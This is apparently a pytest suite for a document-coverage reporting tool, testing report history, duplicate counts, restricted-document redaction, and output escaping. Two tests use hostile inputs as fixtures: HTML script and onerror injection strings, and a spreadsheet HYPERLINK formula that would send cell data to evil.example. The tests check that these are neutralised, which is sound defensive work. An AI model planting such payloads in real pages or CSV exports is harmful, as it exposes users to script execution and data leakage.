"""Report history and diff, duplicates and near-empty documents, escaping, on a tiny two-source project;
and write_report, the entry point the coverage DAG calls."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from kmingest.config import Config
from kmingest.coverage import REPORT_FILE, latest_report, reports_dir, write_report
from kmingest.coverage.model import Report
from kmingest.coverage.report import history
from kmingest.querylog import QueryLog, query_log_path
from kmingest.workspace import Workspace
from tests.coverage.conftest import write_file

AS_OF = datetime(2026, 10, 1, tzinfo=UTC)


def _report(paths: list[Path]) -> Report:
    json_path = next(p for p in paths if p.name == REPORT_FILE)
    return Report.model_validate_json(json_path.read_text(encoding="utf-8"))


def test_write_report_keeps_history_and_the_next_report_shows_what_changed(tiny: tuple[Path, Config]) -> None:
    root, config = tiny
    first_paths = write_report(config, as_of=AS_OF)
    first = _report(first_paths)
    assert {p.name for p in first_paths} >= {"coverage.html", REPORT_FILE, "coverage_metrics.csv"}
    assert all(p.parent.parent == reports_dir(config) for p in first_paths)  # default: the history folder
    assert first.changes is None
    areas = {a.area: a for a in first.areas}
    assert (areas["Calibration"].status, areas["Calibration"].documents) == ("covered", 3)
    assert areas["Welding inspection"].status == "missing"
    assert areas["Annual leave"].status == "stale"  # one document from 2024-01-10, > 365 days before AS_OF

    # Quality gains a welding document; HR's only document is removed; HR's scanned image stays skipped
    write_file(
        root,
        "docs/Quality/welding.md",
        "Weld inspection: visual check, then dye penetrant test. " * 2,
        datetime(2026, 9, 20, tzinfo=UTC),
    )
    (root / "docs" / "HR" / "leave.md").unlink()
    with Workspace(config) as ws:
        ws.ingest(["docs"], full=True)
    second = _report(write_report(config, formats=("json",), as_of=AS_OF))
    assert [p.name for p in history(reports_dir(config))] == [first.report_id, second.report_id]
    assert latest_report(reports_dir(config)) == second
    assert second.changes is not None and second.changes.previous_id == first.report_id
    changes = {(c.scope, c.department, c.area): c for c in second.changes.items}
    quality = changes[("department", "Quality", "")]
    assert quality.verdict == "better" and "documents 3 -> 4" in quality.details
    hr = changes[("department", "HR", "")]
    assert hr.verdict == "worse" and "documents 1 -> 0" in hr.details
    welding = changes[("area", "Quality", "Welding inspection")]
    assert welding.verdict == "better" and "status missing -> thin" in welding.details
    leave = changes[("area", "HR", "Annual leave")]
    assert leave.verdict == "worse" and "status stale -> missing" in leave.details
    assert changes[("area", "Quality", "Calibration")].verdict == "same"


def test_duplicates_near_empty_and_problems(tiny: tuple[Path, Config], tmp_path: Path) -> None:
    _, config = tiny
    report = _report(write_report(config, tmp_path / "out", formats=("json",), as_of=AS_OF))
    cells = {(c.department, c.system): c for c in report.department_system}
    # calibration.md (docs) and calibration-copy.md (wiki) hold the same text: one duplicate on each side
    assert cells[("Quality", "fileshare")].duplicates == 1 and cells[("Quality", "wiki")].duplicates == 1
    assert cells[("HR", "fileshare")].near_empty == 1  # leave.md: 43 characters < near_empty_chars 50
    assert cells[("HR", "fileshare")].skipped == 1 and cells[("HR", "fileshare")].embedded_share == 0.5
    assert [(p.external_id, p.kind, p.department, p.doc_type) for p in report.problems] == [
        ("HR/scan.png", "skipped", "HR", "png")
    ]


def test_user_content_is_escaped_in_the_html(tiny: tuple[Path, Config], tmp_path: Path) -> None:
    root, config = tiny
    (root / "knowledge_map.yaml").write_text(
        "departments:\n  Quality:\n    - name: '<img src=x onerror=alert(1)>'\n"
        "      keywords: [calibration]\n",
        encoding="utf-8",
    )
    log = QueryLog(query_log_path(config.state_dir))
    log.record("<b>HR</b>", "<script>alert('q')</script>", {}, 0, 3.0)
    log.close()
    html = tmp_path / "coverage.html"
    write_report(config, tmp_path, formats=("html",), as_of=AS_OF)
    text = html.read_text(encoding="utf-8")
    assert "<script>alert" not in text and "<img src=x" not in text and "<b>HR</b>" not in text
    assert "&lt;script&gt;alert(&#39;q&#39;)&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "<script" not in text.lower() and "http://" not in text.replace("http://www.w3.org/2000/svg", "")


def test_unknown_format_is_refused_before_any_work(tiny: tuple[Path, Config]) -> None:
    _, config = tiny
    with pytest.raises(ValueError, match="pdf"):
        write_report(config, formats=("html", "pdf"))
    assert history(reports_dir(config)) == []


def test_report_json_is_plain_json_for_other_tools(tiny: tuple[Path, Config], tmp_path: Path) -> None:
    _, config = tiny
    paths = write_report(config, tmp_path, formats=("json",), as_of=AS_OF)
    data = json.loads(paths[0].read_text(encoding="utf-8"))
    assert data["totals"]["documents"] == 4 and data["as_of"].startswith("2026-10-01")
    assert {a["status"] for a in data["areas"]} == {"covered", "missing", "stale"}


def test_areas_count_restricted_documents_but_never_show_their_titles_or_authors(
    tiny: tuple[Path, Config], tmp_path: Path
) -> None:
    root, config = tiny
    write_file(
        root,
        "docs/HR/salary-review.md",
        "Annual leave rules for the salary review board. " * 3,
        datetime(2026, 9, 1, tzinfo=UTC),
    )
    (root / "docs/HR/salary-review.md.meta.json").write_text(
        json.dumps({"acl": ["dept:HR"], "title": "Board salary review", "author": "Chief of Staff"}),
        encoding="utf-8",
    )
    with Workspace(config) as ws:
        ws.ingest(["docs"])
    report = _report(write_report(config, tmp_path / "out", formats=("json",), as_of=AS_OF))
    [leave] = [a for a in report.areas if a.area == "Annual leave"]
    assert leave.documents == 2  # the restricted document is counted ...
    assert "Board salary review" not in leave.examples  # ... but not named
    assert "Chief of Staff" not in [name for name, _ in leave.authors]
    assert leave.examples == ("leave",)


def test_area_words_whose_stem_changes_when_stemmed_again_still_match(
    tiny: tuple[Path, Config], tmp_path: Path
) -> None:
    root, config = tiny
    write_file(
        root,
        "docs/HR/travel.md",
        "Travel expense claims are filed within 30 days.",
        datetime(2026, 9, 1, tzinfo=UTC),
    )
    with Workspace(config) as ws:
        ws.ingest(["docs"])
    (root / "knowledge_map.yaml").write_text(
        "departments:\n  HR:\n    - name: Travel expenses\n      keywords: [travel expense]\n",
        encoding="utf-8",
    )  # "expense" stems to "expens", which stems again to "expen"
    report = _report(write_report(config, tmp_path / "out", formats=("json",), as_of=AS_OF))
    [travel] = report.areas
    assert (travel.documents, travel.examples) == (1, ("travel",))


def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(
    tiny: tuple[Path, Config], tmp_path: Path
) -> None:
    import csv

    _, config = tiny
    log = QueryLog(query_log_path(config.state_dir))
    log.record(
        "Sales", '=HYPERLINK("http://evil.example/?"&A1,"click")', {}, 0, 3.0
    )  # now: analytics cover the days before the report
    log.close()
    paths = write_report(config, tmp_path / "out", formats=("csv",), as_of=AS_OF)
    queries = next(p for p in paths if p.name == "search_queries.csv")
    with queries.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert '\'=hyperlink("http://evil.example/?"&a1,"click")' in cells
    assert not any(cell.startswith("=") for cell in cells)
